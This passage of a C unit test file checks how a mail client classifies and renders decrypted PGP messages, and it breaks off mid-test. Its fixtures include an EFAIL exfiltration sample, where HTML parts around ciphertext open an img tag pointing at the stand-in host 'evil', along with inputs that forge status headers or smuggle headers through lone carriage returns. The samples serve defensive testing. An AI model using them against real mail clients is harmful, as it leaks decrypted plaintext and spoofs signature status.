/* Unit tests of the decrypted view: what is decrypted and what is not, the
 * protected header, signatures, integrity failures and determinism, against
 * real gpg in a throwaway GNUPGHOME with keys made for the run. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include <glib.h>
#include <gmime/gmime.h>
#include <gpgme.h>

#include "keystore.h"
#include "testkeys.h"
#include "outbound.h"
#include "view.h"

#define U8(s) ((const uint8_t *)(s))

/* ---- the keyring ------------------------------------------------------------ */

static char *tmp_dir;
static char *home;
static gpgme_ctx_t setup_ctx;
static crypto_worker *worker;
/* alice: the reader (recipient); bob: a signer; carol: a signer whose key
 * is deleted in the pinning test; dave: a recipient whose key is deleted. */
static char *alice_fpr, *bob_fpr, *carol_fpr, *dave_fpr;

static void delete_key(const char *fpr)
{
	gpgme_key_t key = testkeys_get(setup_ctx, fpr, false);
	gpgme_error_t err = gpgme_op_delete_ext(setup_ctx, key,
						GPGME_DELETE_ALLOW_SECRET | GPGME_DELETE_FORCE);
	if (err != 0)
		fail_msg("delete %s: %s", fpr, gpgme_strerror(err));
	gpgme_key_unref(key);
}

/* Runs gpg on the test keyring; args end with NULL. */
static void run_gpg(const char *first, ...)
{
	GPtrArray *argv = g_ptr_array_new();
	g_ptr_array_add(argv, "gpg");
	g_ptr_array_add(argv, "--homedir");
	g_ptr_array_add(argv, home);
	g_ptr_array_add(argv, "--batch");
	g_ptr_array_add(argv, "--yes");
	g_ptr_array_add(argv, "--no-tty");
	g_ptr_array_add(argv, "--trust-model");
	g_ptr_array_add(argv, "always");
	va_list ap;
	va_start(ap, first);
	for (const char *a = first; a != NULL; a = va_arg(ap, const char *))
		g_ptr_array_add(argv, (char *)a);
	va_end(ap);
	g_ptr_array_add(argv, NULL);
	char *err_text = NULL;
	int status = 0;
	GError *error = NULL;
	gboolean ok = g_spawn_sync(NULL, (char **)argv->pdata, NULL, G_SPAWN_SEARCH_PATH |
				   G_SPAWN_STDOUT_TO_DEV_NULL, NULL, NULL, NULL, &err_text,
				   &status, &error);
	if (!ok)
		fail_msg("cannot run gpg: %s", error->message);
	if (!g_spawn_check_wait_status(status, NULL))
		fail_msg("gpg failed: %s", err_text);
	g_free(err_text);
	g_ptr_array_free(argv, TRUE);
}

static int group_setup(void **state)
{
	(void)state;
	g_mime_init();
	tmp_dir = g_dir_make_tmp("sealpost-view-XXXXXX", NULL);
	assert_non_null(tmp_dir);
	home = g_build_filename(tmp_dir, "gnupg", NULL);
	const char *error = NULL;
	if (keystore_init(home, &error) < 0)
		fail_msg("keystore_init: %s", error);
	assert_int_equal(gpgme_new(&setup_ctx), 0);
	gpgme_set_protocol(setup_ctx, GPGME_PROTOCOL_OpenPGP);
	alice_fpr = testkeys_make(setup_ctx, "Alice <alice@example.test>");
	bob_fpr = testkeys_make(setup_ctx, "Bob <bob@example.test>");
	carol_fpr = testkeys_make(setup_ctx, "Carol <carol@example.test>");
	dave_fpr = testkeys_make(setup_ctx, "Dave <dave@example.test>");
	worker = crypto_worker_new(&error);
	assert_non_null(worker);
	return 0;
}

static int group_teardown(void **state)
{
	(void)state;
	crypto_worker_free(&worker);
	gpgme_release(setup_ctx);
	/* The agent the run started goes with its home. */
	char *argv[] = { "gpgconf", "--homedir", home, "--kill", "all", NULL };
	g_spawn_sync(NULL, argv, NULL, G_SPAWN_SEARCH_PATH | G_SPAWN_STDOUT_TO_DEV_NULL |
		     G_SPAWN_STDERR_TO_DEV_NULL, NULL, NULL, NULL, NULL, NULL, NULL);
	char *rm[] = { "rm", "-rf", tmp_dir, NULL };
	g_spawn_sync(NULL, rm, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, NULL, NULL, NULL, NULL);
	g_free(alice_fpr);
	g_free(bob_fpr);
	g_free(carol_fpr);
	g_free(dave_fpr);
	g_free(home);
	g_free(tmp_dir);
	g_mime_shutdown();
	return 0;
}

/* ---- messages ------------------------------------------------------------------- */

typedef struct {
	const char *data;
	size_t len, pos;
} mem_source;

static ssize_t mem_read(void *ctx, void *buf, size_t size)
{
	mem_source *m = ctx;
	size_t n = m->len - m->pos < size ? m->len - m->pos : size;
	memcpy(buf, m->data + m->pos, n);
	m->pos += n;
	return (ssize_t)n;
}

static int mem_rewind(void *ctx)
{
	((mem_source *)ctx)->pos = 0;
	return 0;
}

static int string_write(void *ctx, const void *buf, size_t len)
{
	g_string_append_len(ctx, buf, (gssize)len);
	return 0;
}

/* msg as sealpost's outbound path writes it: encrypted to recipients
 * (NULL-terminated fingerprints), signed by signer_fpr unless NULL, or only
 * signed when recipients is NULL. g_free. */
static char *outbound(const char *msg, const char *const *recipients, const char *signer_fpr)
{
	size_t len = strlen(msg), block;
	bool blank;
	assert_int_equal(crypto_header_block_end(U8(msg), len, true, &block, &blank), 1);
	crypto_outbound_header *h = crypto_outbound_header_parse(U8(msg), block, blank,
								 U8(msg + block), len - block);
	gpgme_key_t keys[8] = { NULL };
	for (size_t i = 0; recipients != NULL && recipients[i] != NULL; i++)
		keys[i] = testkeys_get(setup_ctx, recipients[i], false);
	crypto_outbound_options opts = {
		.recipients = keys,
		.signer = signer_fpr != NULL ? testkeys_get(setup_ctx, signer_fpr, true) : NULL,
	};
	mem_source m = { msg + block, len - block, 0 };
	crypto_source src = { mem_read, mem_rewind, &m };
	GString *out = g_string_new(NULL);
	crypto_sink sink = { string_write, out };
	crypto_failure failure;
	const char *error = NULL;
	int ret = recipients != NULL
		? crypto_outbound_write_encrypted(h, worker, &opts, &src, &sink, &failure, &error)
		: crypto_outbound_write_signed(h, worker, &opts, &src, &sink, &failure, &error);
	if (ret < 0)
		fail_msg("outbound: %s", error);
	for (size_t i = 0; keys[i] != NULL; i++)
		gpgme_key_unref(keys[i]);
	if (opts.signer != NULL)
		gpgme_key_unref(opts.signer);
	crypto_outbound_header_free(&h);
	return g_string_free(out, FALSE);
}

/* data encrypted (and signed) by GPGME to alice. g_free. */
static char *encrypt_raw(const char *data, size_t len, const char *signer_fpr, bool armor,
			 size_t *len_r)
{
	gpgme_ctx_t ctx;
	assert_int_equal(gpgme_new(&ctx), 0);
	gpgme_set_armor(ctx, armor);
	gpgme_key_t keys[2] = { testkeys_get(setup_ctx, alice_fpr, false), NULL };
	gpgme_data_t in, out;
	assert_int_equal(gpgme_data_new_from_mem(&in, data, len, 0), 0);
	assert_int_equal(gpgme_data_new(&out), 0);
	gpgme_error_t err;
	/* Uncompressed, so a changed byte hits the literal data and only the
	 * integrity check can catch it. */
	gpgme_encrypt_flags_t flags = GPGME_ENCRYPT_ALWAYS_TRUST | GPGME_ENCRYPT_NO_COMPRESS;
	if (signer_fpr != NULL) {
		gpgme_key_t signer = testkeys_get(setup_ctx, signer_fpr, true);
		gpgme_signers_add(ctx, signer);
		gpgme_key_unref(signer);
		err = gpgme_op_encrypt_sign(ctx, keys, flags, in, out);
	} else {
		err = gpgme_op_encrypt(ctx, keys, flags, in, out);
	}
	if (err != 0)
		fail_msg("encrypt: %s", gpgme_strerror(err));
	gpgme_key_unref(keys[0]);
	gpgme_data_release(in);
	size_t n;
	char *mem = gpgme_data_release_and_get_mem(out, &n);
	char *copy = g_malloc(n + 1);
	memcpy(copy, mem, n);
	copy[n] = '\0';
	gpgme_free(mem);
	gpgme_release(ctx);
	*len_r = n;
	return copy;
}

/* LF line ends made CRLF. g_free. */
static char *crlf(const char *text)
{
	GString *s = g_string_new(NULL);
	for (const char *p = text; *p != '\0'; p++) {
		if (*p == '\n' && (p == text || p[-1] != '\r'))
			g_string_append_c(s, '\r');
		g_string_append_c(s, *p);
	}
	return g_string_free(s, FALSE);
}

/* A PGP/MIME message around armored ciphertext, or around binary
 * ciphertext in base64 when binary. g_free. */
static char *pgp_mime(const char *outer_fields, const char *cipher, size_t len, bool binary)
{
	char *body;
	if (binary) {
		char *b64 = g_base64_encode((const guchar *)cipher, len);
		GString *folded = g_string_new(NULL);
		for (size_t i = 0; i < strlen(b64); i += 76)
			g_string_append_printf(folded, "%.76s\r\n", b64 + i);
		body = g_string_free(folded, FALSE);
		g_free(b64);
	} else {
		body = crlf(cipher);
	}
	char *msg = g_strdup_printf(
		"%s"
		"MIME-Version: 1.0\r\n"
		"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";\r\n"
		" boundary=\"enc\"\r\n"
		"\r\n"
		"--enc\r\n"
		"Content-Type: application/pgp-encrypted\r\n"
		"\r\n"
		"Version: 1\r\n"
		"\r\n"
		"--enc\r\n"
		"Content-Type: application/octet-stream\r\n"
		"%s"
		"\r\n"
		"%s"
		"--enc--\r\n", outer_fields,
		binary ? "Content-Transfer-Encoding: base64\r\n" : "", body);
	g_free(body);
	return msg;
}

/* text with every from replaced by to. g_free. */
static char *replace(const char *text, const char *from, const char *to)
{
	char **parts = g_strsplit(text, from, -1);
	char *out = g_strjoinv(to, parts);
	g_strfreev(parts);
	return out;
}

static char *read_file(const char *path)
{
	char *text = NULL;
	if (!g_file_get_contents(path, &text, NULL, NULL))
		fail_msg("cannot read %s", path);
	return text;
}

/* ---- looking at a view ------------------------------------------------------------- */

static bool has(const GByteArray *view, const char *needle)
{
	return memmem(view->data, view->len, needle, strlen(needle)) != NULL;
}

/* The unfolded values of name in the view's top header block. */
static GPtrArray *header_values(const GByteArray *view, const char *name)
{
	GPtrArray *out = g_ptr_array_new_with_free_func(g_free);
	const char *end = memmem(view->data, view->len, "\r\n\r\n", 4);
	assert_non_null(end);
	char *head = g_strndup((const char *)view->data, (size_t)(end - (const char *)view->data));
	char **lines = g_strsplit(head, "\r\n", -1);
	GPtrArray *fields = g_ptr_array_new_with_free_func(g_free);
	for (char **l = lines; *l != NULL; l++) {
		if ((**l == ' ' || **l == '\t') && fields->len > 0) {
			char **last = (char **)&g_ptr_array_index(fields, fields->len - 1);
			char *joined = g_strconcat(*last, *l, NULL);
			g_free(*last);
			*last = joined;
		} else {
			g_ptr_array_add(fields, g_strdup(*l));
		}
	}
	size_t n = strlen(name);
	for (guint i = 0; i < fields->len; i++) {
		const char *f = g_ptr_array_index(fields, i);
		if (g_ascii_strncasecmp(f, name, n) == 0 && f[n] == ':')
			g_ptr_array_add(out, g_strstrip(g_strdup(f + n + 1)));
	}
	g_ptr_array_unref(fields);
	g_strfreev(lines);
	g_free(head);
	return out;
}

/* The single value of name, asserted to be there exactly once. g_free. */
static char *header_value(const GByteArray *view, const char *name)
{
	GPtrArray *v = header_values(view, name);
	if (v->len != 1)
		fail_msg("%s: %u values", name, v->len);
	char *s = g_strdup(g_ptr_array_index(v, 0));
	g_ptr_array_unref(v);
	return s;
}

static unsigned header_count(const GByteArray *view, const char *name)
{
	GPtrArray *v = header_values(view, name);
	unsigned n = v->len;
	g_ptr_array_unref(v);
	return n;
}

static void assert_header(const GByteArray *view, const char *name, const char *want)
{
	char *v = header_value(view, name);
	if (strcmp(v, want) != 0)
		fail_msg("%s: '%s', want '%s'", name, v, want);
	g_free(v);
}

/* Everything after the top header block. g_free. */
static char *body_of(const GByteArray *view)
{
	const char *end = memmem(view->data, view->len, "\r\n\r\n", 4);
	assert_non_null(end);
	end += 4;
	return g_strndup(end, view->len - (size_t)(end - (const char *)view->data));
}

static void assert_crlf_only(const GByteArray *view)
{
	for (size_t i = 0; i < view->len; i++)
		if (view->data[i] == '\n' && (i == 0 || view->data[i - 1] != '\r'))
			fail_msg("bare LF at %zu", i);
}

static GByteArray *render(const char *msg, const char *pinned, crypto_view_status *st)
{
	GByteArray *view = NULL;
	crypto_view_result r = crypto_view_render(worker, CRYPTO_DECRYPT_ROOT, U8(msg), strlen(msg),
						  pinned, &view, st);
	if (r != CRYPTO_VIEW_RENDERED)
		fail_msg("render: result %d, %s", r, st->reason != NULL ? st->reason : "");
	assert_non_null(view);
	assert_crlf_only(view);
	return view;
}

static const char plain_message[] =
	"From: Bob <bob@example.test>\r\n"
	"To: Alice <alice@example.test>\r\n"
	"Subject: The real subject\r\n"
	"Date: Mon, 01 Jan 2024 10:00:00 +0000\r\n"
	"Message-ID: <m1@example.test>\r\n"
	"MIME-Version: 1.0\r\n"
	"Content-Type: text/plain; charset=utf-8\r\n"
	"Content-Transfer-Encoding: 8bit\r\n"
	"\r\n"
	"Hello Alice, CANARY-7f3a gr\xc3\xbc\xc3\x9f""e\r\n"
	"second line\r\n";

static const char plain_body[] = "Hello Alice, CANARY-7f3a gr\xc3\xbc\xc3\x9f""e\r\nsecond line\r\n";

/* ---- classification, without keys ----------------------------------------------------- */

static void test_classify(void **state)
{
	(void)state;
	static const struct {
		const char *msg;
		crypto_view_kind kind;
	} cases[] = {
		{ "From: a@x\r\nSubject: hi\r\n\r\nhello\r\n", CRYPTO_VIEW_KIND_PLAIN },
		{ "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
		  "--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
		  "--b\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n--b--\r\n",
		  CRYPTO_VIEW_KIND_PGP_MIME },
		/* One part only; the parts swapped. */
		{ "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
		  "--b\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n--b--\r\n",
		  CRYPTO_VIEW_KIND_MALFORMED },
		{ "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
		  "--b\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n"
		  "--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b--\r\n",
		  CRYPTO_VIEW_KIND_MALFORMED },
		{ "Content-Type: multipart/encrypted; protocol=\"application/pkcs7-mime\"; boundary=b\r\n\r\n"
		  "--b--\r\n", CRYPTO_VIEW_KIND_UNSUPPORTED },
		{ "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMIIB\r\n",
		  CRYPTO_VIEW_KIND_UNSUPPORTED },
		{ "Subject: x\r\n\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n\r\n",
		  CRYPTO_VIEW_KIND_INLINE_PGP },
		/* Transfer-encoded: judged on the decoded text. */
		{ "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
		  "LS0tLS1CRUdJTiBQR1AgTUVTU0FHRS0tLS0tCgpoUQotLS0tLUVORCBQR1AgTUVTU0FHRS0tLS0tCg==\r\n",
		  CRYPTO_VIEW_KIND_INLINE_PGP },
		/* Text around the block, or two blocks: not the only text. */
		{ "Subject: x\r\n\r\nclick <a href='\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n"
		  "-----END PGP MESSAGE-----\r\n", CRYPTO_VIEW_KIND_NESTED },
		{ "Subject: x\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n"
		  "-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n",
		  CRYPTO_VIEW_KIND_NESTED },
		{ "Content-Type: text/html\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n"
		  "-----END PGP MESSAGE-----\r\n", CRYPTO_VIEW_KIND_NESTED },
		/* EFAIL: ciphertext between attacker-controlled HTML parts. */
		{ "Content-Type: multipart/mixed; boundary=m\r\n\r\n"
		  "--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/?\r\n"
		  "--m\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
		  "--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
		  "--b\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n--b--\r\n"
		  "--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n", CRYPTO_VIEW_KIND_NESTED },
		{ "Content-Type: multipart/mixed; boundary=m\r\n\r\n"
		  "--m\r\nContent-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n"
		  "-----END PGP MESSAGE-----\r\n--m--\r\n", CRYPTO_VIEW_KIND_NESTED },
		{ "Content-Type: message/rfc822\r\n\r\n"
		  "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
		  "--b--\r\n", CRYPTO_VIEW_KIND_NESTED },
		{ "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n"
		  "--s\r\nContent-Type: text/plain\r\n\r\nhi\r\n--s--\r\n", CRYPTO_VIEW_KIND_PLAIN },
		{ "Subject: x\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nhi\r\n", CRYPTO_VIEW_KIND_PLAIN },
		{ "", CRYPTO_VIEW_KIND_PLAIN },
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		crypto_view_status st;
		crypto_view_classify(U8(cases[i].msg), strlen(cases[i].msg), &st);
		if (st.kind != cases[i].kind)
			fail_msg("case %zu: kind %d, want %d (%s)", i, st.kind, cases[i].kind,
				 st.reason != NULL ? st.reason : "");
		bool want_encrypted = cases[i].kind == CRYPTO_VIEW_KIND_PGP_MIME ||
			cases[i].kind == CRYPTO_VIEW_KIND_INLINE_PGP ||
			cases[i].kind == CRYPTO_VIEW_KIND_MALFORMED;
		assert_int_equal(st.encrypted, want_encrypted);
		if (cases[i].kind != CRYPTO_VIEW_KIND_PGP_MIME &&
		    cases[i].kind != CRYPTO_VIEW_KIND_INLINE_PGP)
			assert_non_null(st.reason);
		/* What is not decrypted comes back unchanged, without gpg. */
		GByteArray *view = NULL;
		crypto_view_status st2;
		crypto_view_result r = crypto_view_render(NULL, CRYPTO_DECRYPT_NEVER,
							  U8(cases[i].msg), strlen(cases[i].msg),
							  NULL, &view, &st2);
		assert_int_equal(r, CRYPTO_VIEW_UNCHANGED);
		assert_null(view);
		assert_int_equal(st2.kind, st.kind);
		assert_false(st2.decrypted);
		crypto_view_status_clear(&st2);
		crypto_view_status_clear(&st);
		assert_null(st.reason);
	}
}

/* ---- assembling, without gpg ----------------------------------------------------------- */

static const char skeleton[] =
	"Received: from mx.example.test by imap.example.test;\r\n"
	" Mon, 01 Jan 2024 10:00:01 +0000\r\n"
	"From: Bob <bob@example.test>\r\n"
	"To: alice@example.test\r\n"
	"Subject: ...\r\n"
	"X-Sealpost-Signature: good FORGED\r\n"
	"x-sealpost-decryption: ok\r\n"
	"MIME-Version: 1.0\r\n"
	"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n"
	"\r\n"
	"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
	"--b\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n--b--\r\n";

static GByteArray *build(const char *msg, const char *plain, bool is_mime,
			 crypto_view_status *st)
{
	GByteArray *view = NULL;
	if (crypto_view_build(U8(msg), strlen(msg), U8(plain), strlen(plain), is_mime,
			      "none", &view, st) < 0)
		fail_msg("build: %s", st->reason != NULL ? st->reason : "");
	assert_non_null(view);
	assert_crlf_only(view);
	return view;
}

static void test_build_protected_headers(void **state)
{
	(void)state;
	const char *entity =
		"Content-Type: multipart/mixed; boundary=\"in\";\r\n"
		" protected-headers=\"v1\"; hp=\"cipher\"\r\n"
		"From: Bob <bob@example.test>\r\n"
		"To: alice@example.test\r\n"
		"Subject: The =?utf-8?q?r=C3=A9al?= subject\r\n"
		"X-Mailer: kept with hp=cipher\r\n"
		"X-Sealpost-Signature: good FORGED INSIDE\r\n"
		"HP-Outer: Subject: ...\r\n"
		"MIME-Version: 1.0\r\n"
		"\r\n"
		"preamble\r\n"
		"--in\r\n"
		"Content-Type: text/plain\r\n"
		"\r\n"
		"first\r\n"
		"--in--\r\n";
	crypto_view_status st;
	GByteArray *view = build(skeleton, entity, true, &st);
	assert_true(st.decrypted);
	assert_int_equal(st.kind, CRYPTO_VIEW_KIND_PGP_MIME);
	assert_string_equal(st.signature, "none");
	assert_false(st.inner_from_mismatch);
	/* Outer trace fields stay; protected ones replace the outer ones. */
	assert_header(view, "Received", "from mx.example.test by imap.example.test; "
		      "Mon, 01 Jan 2024 10:00:01 +0000");
	assert_header(view, "Subject", "The =?utf-8?q?r=C3=A9al?= subject");
	assert_header(view, "X-Mailer", "kept with hp=cipher");
	assert_header(view, "From", "Bob <bob@example.test>");
	assert_header(view, "MIME-Version", "1.0");
	assert_int_equal(header_count(view, "HP-Outer"), 0);
	/* Only sealpost's own status fields, once each. */
	assert_header(view, "X-Sealpost-Decryption", "ok");
	assert_header(view, "X-Sealpost-Signature", "none");
	assert_int_equal(header_count(view, "X-Sealpost-From-Mismatch"), 0);
	assert_false(has(view, "FORGED"));
	/* The body no longer claims a protected header. */
	assert_header(view, "Content-Type", "multipart/mixed; boundary=in");
	char *body = body_of(view);
	assert_string_equal(body, "preamble\r\n--in\r\nContent-Type: text/plain\r\n\r\nfirst\r\n--in--\r\n");
	g_free(body);

	/* The same input, the same bytes. */
	crypto_view_status st2;
	GByteArray *again = build(skeleton, entity, true, &st2);
	assert_int_equal(again->len, view->len);
	assert_memory_equal(again->data, view->data, view->len);
	g_byte_array_unref(again);
	crypto_view_status_clear(&st2);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);

	/* Legacy protected-headers="v1": only the listed fields count, and a
	 * different From is pointed out. */
	const char *legacy =
		"Content-Type: text/plain; charset=us-ascii; protected-headers=\"v1\"\r\n"
		"From: Mallory <mallory@example.test>\r\n"
		"Subject: legacy\r\n"
		"X-Mailer: not protected without hp=cipher\r\n"
		"\r\n"
		"text\r\n";
	view = build(skeleton, legacy, true, &st);
	assert_header(view, "Subject", "legacy");
	assert_header(view, "From", "Mallory <mallory@example.test>");
	assert_int_equal(header_count(view, "X-Mailer"), 0);
	assert_header(view, "X-Sealpost-From-Mismatch", "outer <bob@example.test>");
	assert_true(st.inner_from_mismatch);
	assert_header(view, "Content-Type", "text/plain; charset=us-ascii");
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);

	/* Not marked: the inner fields are not taken, the outer ones stay. */
	const char *unmarked = "Content-Type: text/plain\r\nSubject: not protected\r\n\r\ntext\r\n";
	view = build(skeleton, unmarked, true, &st);
	assert_header(view, "Subject", "...");
	assert_false(has(view, "not protected"));
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);

	/* Signed then encrypted: the protected header is on the signed
	 * content, which stays exactly as it was signed. */
	const char *signed_entity =
		"Content-Type: multipart/signed; micalg=pgp-sha256;\r\n"
		" protocol=\"application/pgp-signature\"; boundary=\"s\"\r\n"
		"\r\n"
		"--s\r\n"
		"Content-Type: text/plain; protected-headers=\"v1\"\r\n"
		"Subject: signed subject\r\n"
		"\r\n"
		"signed text\r\n"
		"--s\r\n"
		"Content-Type: application/pgp-signature\r\n"
		"\r\n"
		"sig\r\n"
		"--s--\r\n";
	view = build(skeleton, signed_entity, true, &st);
	assert_header(view, "Subject", "signed subject");
	assert_true(has(view, "\r\nContent-Type: text/plain; protected-headers=\"v1\"\r\n"
			"Subject: signed subject\r\n\r\nsigned text\r\n"));
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
}

/* A lone CR is a line end to some readers: it must not start a field. */
/* Autocrypt-Gossip inside the encryption reaches the status whatever the
 * protection; the provider's outer gossip never does. */
static void test_build_gossip(void **state)
{
	(void)state;
	char *outer = g_strdup_printf("Autocrypt-Gossip: addr=mallory@example.test; keydata=T1VU\r\n%s",
				      skeleton);
	const char *const entities[] = {
		/* No protected headers at all (Autocrypt Level 1's example). */
		"Autocrypt-Gossip: addr=carol@example.test; keydata=\r\n Q0FS T0w=\r\n"
		"Content-Type: text/plain\r\n"
		"Autocrypt-Gossip: addr=dave@example.test; keydata=REFWRQ==\r\n\r\nhi\r\n",
		/* protected-headers="v1" without hp. */
		"Content-Type: text/plain; protected-headers=\"v1\"\r\n"
		"Subject: s\r\n"
		"Autocrypt-Gossip: addr=carol@example.test; keydata=\r\n Q0FS T0w=\r\n"
		"Autocrypt-Gossip: addr=dave@example.test; keydata=REFWRQ==\r\n\r\nhi\r\n",
		/* hp="cipher". */
		"Content-Type: text/plain; protected-headers=\"v1\"; hp=\"cipher\"\r\n"
		"Autocrypt-Gossip: addr=carol@example.test; keydata=\r\n Q0FS T0w=\r\n"
		"Autocrypt-Gossip: addr=dave@example.test; keydata=REFWRQ==\r\n\r\nhi\r\n",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(entities); i++) {
		crypto_view_status st;
		GByteArray *view = build(outer, entities[i], true, &st);
		assert_true(st.decrypted);
		assert_non_null(st.gossip);
		assert_int_equal(g_strv_length(st.gossip), 2);
		assert_string_equal(st.gossip[0], "addr=carol@example.test; keydata= Q0FS T0w=");
		assert_string_equal(st.gossip[1], "addr=dave@example.test; keydata=REFWRQ==");
		g_byte_array_unref(view);
		crypto_view_status_clear(&st);
	}
	/* None inside: none, even with one outside. */
	crypto_view_status st;
	GByteArray *view = build(outer, "Content-Type: text/plain\r\n\r\nhi\r\n", true, &st);
	assert_null(st.gossip);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(outer);
}

static void test_build_lone_cr(void **state)
{
	(void)state;
	char *msg = replace(skeleton, "Subject: ...\r\n",
			    "Subject: ...\r\nX-Note: a\rX-Sealpost-Signature: good FORGED-CR\r\n");
	const char *entity = "Content-Type: text/plain; protected-headers=\"v1\"\r\n"
		"Subject: b\rX-Sealpost-Decryption: ok FORGED-CR\r\n\r\ntext\r\n";
	crypto_view_status st;
	GByteArray *view = build(msg, entity, true, &st);
	const char *end = memmem(view->data, view->len, "\r\n\r\n", 4);
	for (const uint8_t *p = view->data; p < (const uint8_t *)end; p++)
		if (*p == '\r')
			assert_int_equal(p[1], '\n');
	assert_header(view, "X-Sealpost-Signature", "none");
	assert_header(view, "X-Sealpost-Decryption", "ok");
	assert_header(view, "X-Note", "a X-Sealpost-Signature: good FORGED-CR");
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);
	g_free(msg);
}

static void test_build_inline_and_limits(void **state)
{
	(void)state;
	const char *msg = "From: a@example.test\r\nSubject: inline\r\nX-Sealpost-Signature: forged\r\n\r\n"
		"-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n";
	crypto_view_status st;
	GByteArray *view = build(msg, "gr\xc3\xbc\xc3\x9f""e\n", false, &st);
	assert_int_equal(st.kind, CRYPTO_VIEW_KIND_INLINE_PGP);
	assert_header(view, "Subject", "inline");
	assert_header(view, "X-Sealpost-Signature", "none");
	assert_header(view, "Content-Type", "text/plain; charset=utf-8");
	assert_header(view, "Content-Transfer-Encoding", "8bit");
	char *body = body_of(view);
	assert_string_equal(body, "gr\xc3\xbc\xc3\x9f""e\r\n");
	g_free(body);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);

	/* PGP/MIME content that is not a MIME entity is shown as text. */
	view = build(skeleton, "just text, no header\r\n", true, &st);
	assert_true(st.decrypted);
	assert_header(view, "Content-Type", "text/plain");
	body = body_of(view);
	assert_string_equal(body, "just text, no header\r\n");
	g_free(body);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);

	/* Deeper than the limit: the failure view, nothing of the content. */
	GString *deep = g_string_new(NULL);
	for (int i = 0; i <= CRYPTO_VIEW_MAX_DEPTH + 1; i++)
		g_string_append_printf(deep, "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n",
				       i, i);
	g_string_append(deep, "Content-Type: text/plain\r\n\r\nCANARY-deep\r\n");
	view = build(skeleton, deep->str, true, &st);
	assert_false(st.decrypted);
	assert_int_equal(st.failure, CRYPTO_VIEW_FAIL_TOO_COMPLEX);
	assert_false(has(view, "CANARY-deep"));
	char *dec = header_value(view, "X-Sealpost-Decryption");
	assert_true(g_str_has_prefix(dec, "failed ("));
	g_free(dec);
	g_string_free(deep, TRUE);
	g_byte_array_unref(view);
	crypto_view_status_clear(&st);

	/* Not an encrypted message: nothing to build. */
	GByteArray *none = NULL;
	const char *plain = "Subject: x\r\n\r\nhello\r\n";
	assert_int_equal(crypto_view_build(U8(plain), strlen(plain), U8("x"), 1, true, "none",
					   &none, &st), -1);
	assert_null(none);
	crypto_view_status_clear(&st);
}

/* ---- with gpg ---------------------------------------------------------------------- */

static void test_pgp_mime_round_trip(void **state)
{
	(void)state;
	const char *const to[] = { alice_fpr, NULL };
	char *enc = outbound(plain_message, to, NULL);
	assert_null(strstr(enc, "CANARY"));
	assert_non_null(strstr(enc, "Subject: ...\r\n"));
	char *msg = g_strconcat("Received: from mx by imap; Mon, 01 Jan 2024 10:00:01 +0000\r\n",
				enc, NULL);
	crypto_view_status st;
	GByteArray *view = render(msg, NULL, &st);
	assert_int_equal(st.kind, CRYPTO_VIEW_KIND_PGP_MIME);
	assert_true(st.encrypted);
	assert_true(st.decrypted);
	assert_null(st.reason);
	assert_string_equal(st.signature, "none");
	assert_false(st.inner_from_mismatch);
	assert_header(view, "Received", "from mx by imap; Mon, 01 Jan 2024 10:00:01 +0000");
	assert_header(view, "Subject", "The real subject");
	assert_header(view, "From", "Bob <bob@example.test>");
	assert_header(view, "To", "Alice <alice@example.test>");
	assert_header(view, "Date", "Mon, 01 Jan 2024 10:00:00 +0000");
	assert_header(view, "Message-ID", "<m1@example.test>");
	assert_header(view, "Content-Type", "text/plain; charset=utf-8");
	assert_header(view, "Content-Transfer-Encoding", "8bit");
	assert_header(view, "X-Sealpost-Decryption", "ok");
	assert_header(view, "X-Sealpost-Signature", "none");
	assert_int_equal(header_count(view, "HP-Outer"), 0);
